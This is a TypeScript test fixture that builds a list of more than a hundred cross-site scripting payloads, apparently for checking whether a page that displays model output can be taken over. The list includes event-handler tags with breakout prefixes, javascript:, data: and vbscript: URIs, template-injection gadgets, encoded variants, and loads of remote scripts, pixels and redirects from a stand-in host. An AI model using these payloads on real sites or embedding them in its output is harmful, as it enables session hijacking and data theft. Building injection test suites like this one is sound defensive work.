// What a model might write to take over a page that trusts it: each would set `window.pwned` or call outside.
const RUN = 'window.pwned=1';
/** Reserved for documentation: nothing answers there, and the test sees the try. */
const OUTSIDE = 'http://192.0.2.1';

const HANDLERS = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['video', '', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['marquee', '', 'onstart'],
  ['iframe', 'src=/', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=/', 'onload'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=/style.css', 'onload'],
  ['div', 'style="animation:x 1ms"', 'onanimationstart'],
] as const;

/** Ways out of text, an attribute, a tag, a comment, a script. */
const WAYS_OUT = ['', '">', "'>", '</td>', '--><!--', '</title>'] as const;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${OUTSIDE}/x.js"></script>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN.slice(7)}"></iframe>`,
  `<a href="javascript:${RUN}">open</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<style>@import url(${OUTSIDE}/x.css)</style>`,
  `<link rel=stylesheet href="${OUTSIDE}/x.css">`,
  `<img src="${OUTSIDE}/pixel.png">`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `<base href="${OUTSIDE}/">`,
  `<template><script>${RUN}</script></template>`,
  `javascript:${RUN}//'`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `[click](javascript:${RUN})`,
  `![x](${OUTSIDE}/x.png)`,
] as const;

/** More than a hundred different ones. */
export const INJECTIONS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS.flatMap(([tag, more, event]) =>
    WAYS_OUT.map((wayOut) => `${wayOut}<${tag} ${more} ${event}="${RUN}">`),
  ),
];
